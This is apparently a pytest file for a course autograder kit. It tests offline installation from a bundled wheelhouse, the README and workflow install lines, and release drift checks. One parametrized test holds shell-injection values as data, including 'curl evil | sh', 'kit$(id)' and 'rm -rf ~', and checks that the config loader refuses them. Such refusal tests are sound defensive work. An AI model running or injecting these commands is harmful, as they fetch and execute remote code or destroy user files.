"""A student installs the kit from the folder they were given: no published package, no network.

`release --wheelhouse` puts the kit's wheel and every wheel it needs beside the assignment; the
released README's own install line installs them into a fresh virtual environment with the
network cut (a network namespace of its own where this machine allows one, and pip's
`--no-index` in any case), and `autograder check` then runs there on the student's module.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from repository_course import ROOT

from autograder.authoring.release import check_release, render_release, write_release
from autograder.course.course import Course
from autograder.errors import ConfigError

FIXTURE = ROOT / "tests" / "fixtures" / "course"


def _copy_course(tmp_path: Path) -> Path:
    course = tmp_path / "course"
    shutil.copytree(FIXTURE, course, ignore=shutil.ignore_patterns("__pycache__", "wheelhouse"))
    return course


def _network_cut() -> list[str]:
    """A prefix that runs a command with no network interface but loopback, where allowed."""
    unshare = shutil.which("unshare")
    if unshare and subprocess.run([unshare, "-n", "true"], capture_output=True).returncode == 0:
        return [unshare, "-n"]
    return []


@pytest.mark.slow
def test_a_student_installs_the_kit_offline_from_the_released_folder(tmp_path: Path) -> None:
    course = _copy_course(tmp_path)
    released = subprocess.run(
        [sys.executable, "-m", "autograder", "release", "--wheelhouse",
         "--assignment", "vectors", "--course", str(course)],
        capture_output=True, text=True, timeout=900,
    )  # fmt: skip
    assert released.returncode == 0, released.stderr
    folder = course / "student_template" / "vectors"
    assert (folder / "wheelhouse").is_dir()
    # what the student receives: the released folder alone, somewhere else
    student = tmp_path / "student" / "vectors"
    shutil.copytree(folder, student)
    readme = (student / "README.md").read_text(encoding="utf-8")
    (install_line,) = re.findall(r"^ +(python -m pip install .*)$", readme, flags=re.MULTILINE)
    assert "--no-index" in install_line.split()
    environment = tmp_path / "fresh"
    subprocess.run([sys.executable, "-m", "venv", str(environment)], check=True)
    clean = {"PATH": f"{environment / 'bin'}:/usr/bin:/bin", "HOME": str(tmp_path),
             "LANG": "C.UTF-8", "PIP_CONFIG_FILE": os.devnull}  # fmt: skip
    offline = _network_cut()
    installed = subprocess.run(
        [*offline, "/bin/sh", "-c", install_line], cwd=student, env=clean,
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert installed.returncode == 0, installed.stdout + installed.stderr
    kit = environment / "bin" / "autograder"
    stubs = subprocess.run([*offline, str(kit), "check"], cwd=student, env=clean,
                           capture_output=True, text=True, timeout=600)  # fmt: skip
    assert "not implemented yet" in stubs.stdout, stubs.stdout + stubs.stderr
    assert "passed" not in stubs.stdout.split("public tests:")[-1]
    shutil.copy(course / "reference" / "vectors.py", student / "vectors.py")
    solved = subprocess.run([*offline, str(kit), "check"], cwd=student, env=clean,
                            capture_output=True, text=True, timeout=600)  # fmt: skip
    assert solved.returncode == 0, solved.stdout + solved.stderr
    assert "Every public test passes." in solved.stdout, solved.stdout
    assert "not implemented yet" not in solved.stdout and "FAILED" not in solved.stdout


def test_without_an_install_source_the_readme_installs_from_the_wheelhouse() -> None:
    course = Course.load(FIXTURE)
    files = render_release(course.assignment("vectors"))
    assert (
        "python -m pip install --no-index --find-links wheelhouse transformer-maths-autograder"
        in files["README.md"]
    )
    workflow = files[".github/workflows/check.yml"]
    assert "--find-links wheelhouse" in workflow
    assert "'transformer-maths-autograder'" in workflow


def test_an_install_source_the_course_names_is_the_readme_s_and_the_workflow_s(
    tmp_path: Path,
) -> None:
    course = _copy_course(tmp_path)
    rubric = course / "grading.toml"
    source = "git+https://example.org/course/kit@v2"
    rubric.write_text(f'[release]\ninstall = "{source}"\n\n' + rubric.read_text("utf-8"))
    files = render_release(Course.load(course).assignment("vectors"))
    assert f'python -m pip install "{source}"' in files["README.md"]
    assert "wheelhouse" not in files["README.md"]
    workflow = files[".github/workflows/check.yml"]
    assert f"'{source}'" in workflow and "--find-links" not in workflow


@pytest.mark.parametrize(
    "source",
    ['kit"; curl evil | sh; "', "kit' || curl evil", "kit$(id)", "kit\nrm -rf ~", "kit\\x", " "],
)
def test_an_install_source_that_could_run_something_else_is_refused(
    tmp_path: Path, source: str
) -> None:
    course = _copy_course(tmp_path)
    rubric = course / "grading.toml"
    quoted = source.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    rubric.write_text(f'[release]\ninstall = "{quoted}"\n\n' + rubric.read_text("utf-8"))
    with pytest.raises(ConfigError, match=r"\[release\.install\]"):
        Course.load(course)


def test_the_drift_check_leaves_the_wheelhouse_alone(tmp_path: Path) -> None:
    course = _copy_course(tmp_path)
    assignment = Course.load(course).assignment("vectors")
    write_release(assignment)
    wheels = assignment.release_dir / "wheelhouse"
    wheels.mkdir()
    (wheels / "transformer_maths_autograder-0-py3-none-any.whl").write_bytes(b"PK")
    check_release(assignment)  # raises TemplateDriftError if the wheels counted as drift
    write_release(assignment)  # a release again keeps them
    assert (wheels / "transformer_maths_autograder-0-py3-none-any.whl").read_bytes() == b"PK"
